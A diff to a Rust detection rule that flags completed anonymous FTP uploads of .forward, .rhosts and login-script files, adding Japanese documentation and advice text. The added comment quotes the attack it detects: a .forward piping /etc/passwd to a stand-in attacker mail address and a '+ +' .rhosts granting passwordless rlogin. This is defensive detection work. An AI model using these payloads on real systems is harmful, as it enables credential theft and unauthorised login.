@@ -33,6 +33,43 @@
 //! - JPCERT/CC JPCERT-E-INF-97-0001-01 (countermeasure 2)
 //! - CERT Advisory CA-93:10, "Anonymous FTP Activity", and its configuration guidelines
 //! - xferlog(5) of wu-ftpd
+//! <!-- ja -->
+//! # FT011 anon-ftp-dotfile-upload
+//!
+//! ## 検出内容
+//! FTP アカウントにコマンドを実行させたり、他のホストを信頼させたりするファイルのアップロードを
+//! 完了した Anonymous FTP の利用者を検出します。対象のファイルは `.forward`、`.rhosts`、`.shosts`、
+//! `hosts.equiv`、`authorized_keys`、ログインスクリプト（`.profile`、`.cshrc`、`.login`、
+//! `.bashrc`）です。wu-ftpd の `xferlog`（方向 `i`、アクセスモード `a`、完了状態 `c`）と vsftpd
+//! 自身のログ（`[ftp] OK UPLOAD:`）を、サーバが直接書いたものも syslog 経由のものも読みます。
+//! `incoming` ディレクトリへのアップロードは数えません。書き込み専用の `incoming` はそのために
+//! あり、そこにある `.forward` を読む者はいないからです。
+//!
+//! ## 重要な理由
+//! これは JPCERT-E-INF-97-0001 が述べる Anonymous FTP への攻撃です。`~ftp` に書き込める場合
+//! （`ftp` の所有、またはモード 777）、侵入者は `"|/bin/mail evil@example < /etc/passwd"` を
+//! 書いた `~ftp/.forward` をアップロードし、`ftp@host` にメールを送ります。sendmail がそのコマンドを
+//! ftp 利用者として実行し、パスワード・ファイルが持ち出されます。`+ +` を書いた `.rhosts` が
+//! あれば、誰でもパスワードなしに `ftp` として `rlogin` できます。アップロードの完了は、
+//! セキュリティホールが開いており、実際に使われたことを意味します。
+//!
+//! ## 例
+//! ```text
+//! Fri Dec 27 18:00:54 1996 1 192.0.2.95 48 /home/ftp/.forward a _ i a guest@ ftp 0 * c
+//! ```
+//!
+//! ## 対処
+//! ホストは侵害されたものとして扱ってください。アップロードされたファイルを削除し、(2)
+//! Anonymous FTP のルート・ディレクトリを root の所有にして、`ftp`、そのグループ、その他の
+//! 利用者が書き込めないようにし（`chmod 555 ~ftp`）、wu-ftpd をバージョンアップします。
+//! アップロードの後に `ftp@` 宛てのメール（攻撃の引き金）がないかメールログを調べ、(3) 全ユーザの
+//! パスワードを変更し、(4) シャドーパスワードを利用し、(5) 不正侵入の可能性が否定できない
+//! 場合にはシステムを再構築してください。
+//!
+//! ## 参考
+//! - JPCERT/CC JPCERT-E-INF-97-0001-01（対策 (2)）
+//! - CERT Advisory CA-93:10 "Anonymous FTP Activity" とその設定の手引き
+//! - wu-ftpd の xferlog(5)
 
 use kensa_core::{Kind, Outcome, Rule, RuleStatus, Severity};
 
@@ -49,8 +86,12 @@ pub static RULE: Rule = Rule {
              for mail to ftp@ after the upload; (3) change every password, (4) use shadow \
              passwords, (5) rebuild where an intrusion cannot be ruled out.",
     status: RuleStatus::Stable,
-    title_ja: "",
-    advice_ja: "",
+    title_ja: "Anonymous FTP で .forward/.rhosts のアップロードが完了",
+    advice_ja: "ホストは侵害されたものとして扱ってください: アップロードされたファイルを削除\
+             し、(2) Anonymous FTP のルート・ディレクトリを root の所有にして書き込めないよう\
+             にし（chmod 555 ~ftp）、wu-ftpd をバージョンアップしてください。アップロード後の \
+             ftp@ 宛てのメールを探し、(3) 全ユーザのパスワードを変更し、(4) シャドーパスワード\
+             を利用し、(5) 不正侵入の可能性が否定できない場合はシステムを再構築してください。",
     since: "0.1.0",
     source: include_str!("ft011_dotfile_upload_succeeded.rs"),
 };
